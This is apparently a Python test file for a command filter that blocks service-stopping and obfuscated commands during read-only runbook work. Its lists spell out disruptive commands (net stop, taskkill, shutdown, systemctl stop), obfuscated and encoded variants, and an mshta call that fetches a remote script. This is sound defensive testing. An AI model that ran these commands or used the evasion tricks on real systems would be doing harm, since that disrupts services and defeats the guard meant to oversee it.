"""A runbook only looks: a command that would stop or restart something is refused, however it is written."""

import pytest

from clients.models.forbidden_commands import refusal

STOPS = """\
Restart-Service DYPE
restart-service -Name "DYPE" -Force
RESTART-SERVICE dype
Stop-Service DYPE
Get-Service DYPE | Stop-Service
(Get-Service DYPE).Stop()
(Get-Service DYPE).'Stop'()
Get-Service DYPE | % { $_.Stop() }
Get-Service DYPE | ForEach-Object Stop-Service
Microsoft.PowerShell.Management\\Stop-Service DYPE
Sto`p-Ser`vice DYPE
"Stop-Service" DYPE
& 'Stop-Service' DYPE
& ("Stop" + "-Service") DYPE
Stop–Service DYPE
spsv DYPE
Suspend-Service DYPE
Start-Service DYPE
Set-Service DYPE -Status Stopped
Set-Service DYPE -StartupType Disabled
Stop-Process -Name dype
spps -Name dype
kill -Name dype
Stop-Computer
Restart-Computer -Force
Stop-ScheduledTask -TaskName CTE
Disable-ScheduledTask CTE
Unregister-ScheduledTask CTE -Confirm:$false
Start-ScheduledTask CTE
Invoke-WmiMethod -Path "Win32_Service.Name='DYPE'" -Name StopService
Invoke-CimMethod -InputObject $s -MethodName StopService
sc stop DYPE
SC STOP DYPE
sc.exe stop DYPE
sc \\\\servidor stop DYPE
s"c" st^op DYPE
sc config DYPE start= disabled
sc delete DYPE
sc control DYPE 128
sc failure DYPE reset= 0
C:\\Windows\\System32\\sc.exe stop DYPE
"C:\\Windows\\System32\\sc.exe" stop DYPE
net stop DYPE
net1 stop DYPE
NET  STOP  "DYPE"
n^e^t s^t^o^p DYPE
net,stop,DYPE
net;stop;DYPE
net=stop=DYPE
net pause DYPE
cmd /c net stop DYPE
cmd /c "net stop DYPE & net start DYPE"
net stop DYPE && net start DYPE
echo ok & net stop DYPE
Start-Process net -ArgumentList stop,DYPE
schtasks /end /tn CTE
schtasks.exe /End /TN "CTE"
schtasks /tn CTE /end
schtasks /run /tn CTE
schtasks /change /tn CTE /disable
schtasks -end -tn CTE
schtasks /delete /tn CTE /f
taskkill /f /im dype.exe
TaskKill.exe /pid 4312
t"as"kkill /im dype.exe
tskill 4312
pskill dype
psservice restart DYPE
shutdown /r /t 0
shutdown.exe -s
logoff 2
reset session 2
rwinsta 2
tsdiscon 2
iisreset
iisreset /restart
wmic service where name='DYPE' call stopservice
wmic process where name='dype.exe' delete
wmic process where name='dype.exe' call terminate
appcmd recycle apppool /apppool.name:erp
Restart-WebAppPool erp
systemctl stop dype
systemctl --user restart dype
systemctl kill dype
s\\ystemctl st\\op dype
systemctl${IFS}stop${IFS}dype
{systemctl,stop,dype}
sudo systemctl restart dype
service dype restart
/etc/init.d/dype stop
killall dype
pkill -f dype
kill -9 4312
reboot
sudo poweroff
init 6
docker restart erp
docker compose down
supervisorctl restart all
nssm restart DYPE
net \\
stop DYPE
net ^
stop DYPE
ｎｅｔ ｓｔｏｐ DYPE
"""

HIDES = """\
powershell -EncodedCommand UwB0AG8AcAAtAFMAZQByAHYAaQBjAGUA
powershell -enc UwB0AG8AcAAtAFMAZQByAHYAaQBjAGUA
powershell.exe -NoProfile -e UwB0AG8AcAAtAFMA
pwsh -ec UwB0AG8AcAAtAFMA
iex $comando
Invoke-Expression "$verbo-Service DYPE"
$verbo = 'St' + 'op'; & "$verbo-Service" DYPE
& $comando
& (Get-Command St?p-Serv*) DYPE
. ([scriptblock]::Create($texto))
[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('eA==')) | iex
(Get-Service DYPE).("St" + "op")()
(Get-Service DYPE).$verbo()
-join ('S','t') | Out-Null
"{0}-{1}" -f 'St','x'
cmd /v /c "set a=st& net !a!op DYPE"
%comspec:~0,3% /c dir
set v=stop& n%v% DYPE
echo dir | cmd
cat passos.sh | sh
python -c "import os"
perl -e "system 1"
bash -c "$passos"
eval "$passos"
mshta http://x.exemplo.com.br
rundll32 user32.dll,LockWorkStation
$'\\x73ystemctl' status
"""

LOOKS = """\
services.msc
taskschd.msc
Get-Service DYPE
Get-Service | Where-Object Status -eq Stopped
Get-Service DYPE | Select-Object Name, Status, StartType
sc query DYPE
sc.exe queryex DYPE
sc \\\\servidor query DYPE
net use
net view \\\\servidor
net statistics workstation
schtasks /query /tn CTE /v /fo list
schtasks /Query
Get-ScheduledTask CTE | Get-ScheduledTaskInfo
Get-Content C:\\DYPE\\logs\\dype.log -Tail 50
Get-Content "C:\\Program Files (x86)\\DYPE\\logs\\erro.log" -Tail 50 -Wait
type C:\\DYPE\\logs\\dype.log
notepad %ProgramData%\\DYPE\\dype.log
$servico = Get-Service DYPE; $servico.Status
Get-EventLog -LogName Application -Newest 20
powershell -ExecutionPolicy Bypass -File C:\\_desktop\\ConnectRemote.ps1
.\\ConnectRemote.ps1
we/exemplo
wmic service get name,state
systemctl status dype
journalctl -u dype -n 50
service dype status
tasklist /fi "imagename eq dype.exe"
Get-ChildItem C:\\inetpub\\asp.net
tail -n 50 /var/log/dype/dype.log
"""


def _commands(text: str) -> list[str]:
    lines: list[str] = []
    for line in text.splitlines():
        if lines and lines[-1].endswith((" \\", " ^")):
            lines[-1] += f"\n{line}"
        else:
            lines.append(line)
    return lines


@pytest.mark.parametrize("command", _commands(STOPS))
def test_what_would_stop_or_restart_something_is_refused(command: str) -> None:
    assert "pergunte antes" in refusal(command) or "por extenso" in refusal(command)


@pytest.mark.parametrize("command", _commands(HIDES))
def test_what_hides_what_it_runs_is_refused(command: str) -> None:
    assert refusal(command)


@pytest.mark.parametrize("command", _commands(LOOKS))
def test_what_only_looks_passes(command: str) -> None:
    assert refusal(command) == ""


def test_the_refusal_names_what_it_found() -> None:
    assert "“net stop”" in refusal("n^et  s^top DYPE")
    assert "“restart-service”" in refusal("Restart-Service DYPE")
